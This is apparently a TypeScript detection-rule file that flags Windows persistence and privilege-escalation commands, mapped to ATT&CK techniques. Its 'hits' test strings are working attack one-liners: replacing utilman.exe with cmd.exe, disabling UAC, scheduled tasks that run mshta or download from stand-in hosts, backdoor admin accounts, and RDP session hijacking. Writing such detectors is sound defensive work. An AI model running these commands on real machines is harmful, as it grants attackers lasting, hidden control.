/** How attackers stay on a Windows machine: tasks, services, accounts, start folders, ways round the consent prompt. Registry keys are in `windows-registry.ts`. */
import { behaviour } from './behaviour.ts';
import { isWritablePlace } from './places.ts';
import { all, any, arg, holds, onProcess, onText, type Row } from './row.ts';

export const WINDOWS_PERSISTENCE: readonly Row[] = [
  behaviour('logon-helper-replaced', ['persistence-file', 'T1546.008', 'persistence', 'critical', 'high'], {
    reason:
      'A helper of the logon screen is replaced: a command window opens for whoever presses its key, before any logon.',
    benign: [],
    hits: [
      'copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe',
      'takeown /f C:\\Windows\\System32\\sethc.exe',
    ],
    misses: ['sfc /scannow', 'start utilman.exe'],
    look: onProcess(
      [
        'copy',
        'move',
        'ren',
        'rename',
        'takeown',
        'icacls',
        'copy-item',
        'move-item',
        'rename-item',
        'mklink',
        'xcopy',
        'replace',
        'del',
        'attrib',
      ],
      holds(
        'sethc',
        'utilman',
        'osk.exe',
        'narrator',
        'magnify',
        'displayswitch',
        'atbroker',
        'printfilterpipeline',
        'stickykeys',
      ),
    ),
  }),
  behaviour('consent-bypass', ['privilege', 'T1548.002', 'privilege-escalation', 'high', 'high'], {
    reason: 'The consent prompt of Windows is switched off or gone round.',
    benign: ['hardening is undone for a test'],
    hits: [
      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f',
      'reg add HKCU\\Environment /v windir /d "cmd /c x & REM "',
      'schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /i',
    ],
    misses: ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'],
    look: onText(
      [
        'enablelua',
        'consentpromptbehavioradmin',
        'silentcleanup',
        'bypassuac',
        'uacme',
        'akagi',
        'app paths\\control.exe',
        'environment /v windir',
        "environment' -name 'windir",
        'promptonsecuredesktop',
        'localaccounttokenfilterpolicy',
        'isolatedcommand',
        'invoke-psuacme',
        'uacbypass',
        'bypass-uac',
        'mock trusted',
        'c:\\windows \\',
        'elevation:administrator',
      ],
      ({ lower }, _at, literal) =>
        !/^(?:enablelua|consent|prompton|localacc)/.test(literal) || /\badd\b|set-item|new-item/.test(lower),
    ),
  }),
  behaviour('scheduled-task', ['persistence-task', 'T1053.005', 'persistence', 'low', 'high'], {
    reason: 'A task is made that Windows starts by itself.',
    benign: ['maintenance of software'],
    hits: [
      'schtasks /create /tn a /tr notepad.exe /sc daily',
      'powershell "Register-ScheduledTask -TaskName a -Action $a"',
    ],
    misses: ['schtasks /query', 'schtasks /run /tn a'],
    look: onProcess(
      ['schtasks', 'register-scheduledtask', 'new-scheduledtask', 'at', 'set-scheduledtask', 'register-scheduledjob'],
      ({ args, name }, { os }) => {
        if (name === 'schtasks') return args.find(({ lower }) => /^[-/](?:create|change)$/.test(lower));
        return name === 'at'
          ? os === 'windows'
            ? args.find(({ lower }) => /^\d{1,2}:\d\d/.test(lower))
            : undefined
          : (args[0] ?? undefined);
      },
    ),
  }),
  behaviour('scheduled-task-odd', ['persistence-task', 'T1053.005', 'persistence', 'critical', 'high'], {
    reason: 'A task is made that starts an interpreter, an address or a program in a folder of the user.',
    benign: ['administrators schedule a script'],
    hits: [
      'schtasks /create /sc minute /mo 5 /tn a /tr "C:\\Users\\Public\\svchost.exe" /f',
      'schtasks /create /tn a /tr "powershell -enc AAAA" /sc once /st 10:00',
      'schtasks /create /tn a /tr "mshta http://a.example.net/x" /sc onlogon',
    ],
    misses: ['schtasks /create /tn backup /tr "C:\\Program Files\\B\\b.exe" /sc daily'],
    look: onProcess(['schtasks', 'new-scheduledtaskaction'], ({ args, name }) =>
      name === 'schtasks' && !args.some(({ lower }) => /^[-/](?:create|change)$/.test(lower))
        ? undefined
        : args
            .filter((_, at) => /^[-/](?:tr|execute|argument)$/.test(args[at - 1]?.lower ?? ''))
            .find(
              ({ lower }) =>
                /powershell.{0,200}(?:-e|hidden|https?:|iex|download)|mshta|rundll32|regsvr32|https?:|wscript|cmd(?:\.exe)? \/c.{0,300}(?:powershell|https?:|\\temp\\|mshta)/.test(
                  lower,
                ) || isWritablePlace(lower.replace(/^["']/, '')),
            ),
    ),
  }),
  behaviour('scheduled-task-system', ['persistence-task-user', 'T1053.005', 'privilege-escalation', 'medium', 'low'], {
    reason: 'The task runs as the system, or on another machine.',
    benign: ['maintenance of software'],
    hits: [
      'schtasks /create /tn a /tr b.exe /sc onstart /ru system',
      'schtasks /create /s srv1 /tn a /tr b.exe /sc once /st 10:00',
    ],
    misses: ['schtasks /create /tn a /tr b.exe /sc daily'],
    look: onProcess(
      ['schtasks'],
      all(arg(/^[-/]create$/), ({ args }) =>
        args.find(
          ({ lower }, at) =>
            /^[-/]s$/.test(lower) || (/^[-/]ru$/.test(lower) && /system/.test(args[at + 1]?.lower ?? '')),
        ),
      ),
    ),
  }),
  behaviour('service-made', ['persistence-service', 'T1543.003', 'persistence', 'medium', 'medium'], {
    reason: 'A service is made or its program changed.',
    benign: ['installation of software'],
    hits: [
      'sc create x binPath= C:\\a.exe',
      'sc config spooler binPath= "net localgroup administrators a /add"',
      'powershell "New-Service -Name a -BinaryPathName b"',
    ],
    misses: ['sc query', 'sc config wuauserv start= auto'],
    look: onProcess(['sc', 'new-service', 'set-service'], ({ args, name }) =>
      name === 'new-service'
        ? args[0]
        : args.find(
            ({ lower }) =>
              /^(?:create|binpath=?|-binarypathname|failurecommand|command=)/.test(lower) &&
              (lower !== 'create' || args.some(({ lower: other }) => /binpath/.test(other))),
          ),
    ),
  }),
  behaviour('wmi-subscription', ['persistence-wmi', 'T1546.003', 'persistence', 'critical', 'high'], {
    reason: 'WMI is told to run something whenever an event occurs, a hidden way to stay.',
    benign: ['monitoring software'],
    hits: [
      'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="a"',
      'powershell "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"',
    ],
    misses: ['wmic /namespace:\\\\root\\cimv2 path win32_service get name'],
    look: onText(
      [
        'commandlineeventconsumer',
        'activescripteventconsumer',
        '__eventfilter',
        '__filtertoconsumerbinding',
        'register-wmievent',
        'root\\subscription',
        'root/subscription',
      ],
      ({ lower }) => /create|set-wmi|new-cim|register|-arguments|mofcomp|new-object/.test(lower),
    ),
  }),
  behaviour('startup-folder', ['persistence-file', 'T1547.001', 'persistence', 'high', 'medium'], {
    reason: 'A file is put into the folder whose content starts at logon.',
    benign: ['users put a program there'],
    hits: [
      'copy a.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"',
      'powershell "iwr http://a.example.net/r.exe -OutFile \'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\r.exe\'"',
    ],
    misses: ['dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"'],
    look: onText(
      [
        'programs\\startup',
        'programs\\\\startup',
        'shell:startup',
        'word\\startup',
        'excel\\xlstart',
        'specialfolders("startup',
        "getfolderpath('startup",
      ],
      ({ lower }) =>
        /copy|move|echo|outfile|out-file|-outfile|>|set-content|createshortcut|new-item|cp |certutil|download|reg add|mklink|curl|add-content/.test(
          lower,
        ),
    ),
  }),
  behaviour('office-hook', ['persistence-key', 'T1137', 'persistence', 'high', 'medium'], {
    reason: 'The protection of Office against macros is switched off, or a macro of Outlook is put in place.',
    benign: ['roll-out of in-house macros'],
    hits: [
      'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security /v Level /t REG_DWORD /d 1 /f',
      'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security /v AccessVBOM /d 1',
    ],
    misses: ['reg query HKCU\\Software\\Microsoft\\Office'],
    look: onText(
      [
        'vbawarnings',
        'accessvbom',
        'outlook\\security',
        'vbaproject.otm',
        'blockcontentexecutionfrominternet',
        'office\\16.0\\word\\security',
        'disableinternetfilesinpv',
        'trusted locations',
        'addins\\',
        'enableunsafeclientmailrules',
      ],
      ({ lower }) => /reg(?:\.exe)? add|set-item|new-item|>|copy/.test(lower),
    ),
  }),
  behaviour('account-made', ['account', 'T1136.001', 'persistence', 'medium', 'medium'], {
    reason: 'A user account is made from the command line.',
    benign: ['set-up of machines'],
    hits: ['net user a Passw0rd! /add', 'powershell "New-LocalUser -Name a -NoPassword"'],
    misses: ['net user', 'net user a /domain'],
    look: onProcess(['net', 'net1', 'new-localuser', 'new-aduser'], (process, scene) =>
      process.name.startsWith('new-')
        ? process
        : process.args[0]?.lower === 'user'
          ? arg(/^\/add$/)(process, scene)
          : undefined,
    ),
  }),
  behaviour('admin-made', ['account', 'T1098', 'privilege-escalation', 'medium', 'high'], {
    reason: 'An account is put into a group with power over the machine or the domain.',
    benign: ['set-up of machines'],
    hits: [
      'net localgroup administrators a /add',
      'net group "Domain Admins" a /add /domain',
      'powershell "Add-LocalGroupMember -Group Administrators -Member a"',
    ],
    misses: ['net localgroup administrators', 'net localgroup users a /add'],
    look: onProcess(['net', 'net1', 'add-localgroupmember', 'add-adgroupmember'], (process) => {
      const isAdd = process.name.startsWith('add-') || process.args.some(({ lower }) => lower === '/add');
      return isAdd
        ? process.args.find(({ lower }) =>
            /admin|remote desktop|remotedesktop|backup operators|remote management/.test(lower),
          )
        : undefined;
    }),
  }),
  behaviour('account-hidden', ['account', 'T1564.002', 'defense-evasion', 'critical', 'high'], {
    reason: 'An account is hidden from the logon screen, or ends in a sign that hides it.',
    benign: [],
    hits: [
      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v a /d 0',
      'net user support$ Qwer!234 /add',
    ],
    misses: ['net user support Qwer!234 /add'],
    look: onText(
      ['specialaccounts', '$ '],
      ({ lower }, at, literal) =>
        literal === 'specialaccounts' ||
        (/net1?(?:\.exe)? user [\w-]{1,20}\$ /.test(lower.slice(Math.max(0, at - 40), at + 2)) &&
          lower.includes('/add')),
    ),
  }),
  behaviour('session-taken', ['remote-access', 'T1563.002', 'lateral-movement', 'high', 'high'], {
    reason: 'The session of another user is taken over or watched.',
    benign: ['support'],
    hits: ['tscon 1 /dest:rdp-tcp#55', 'mstsc /shadow:1 /noconsentprompt'],
    misses: ['query session', 'mstsc /v:srv1'],
    look: onProcess(['tscon', 'mstsc'], any(arg(/^\/dest:/), arg(/^\/(?:shadow|noconsentprompt)/))),
  }),
];
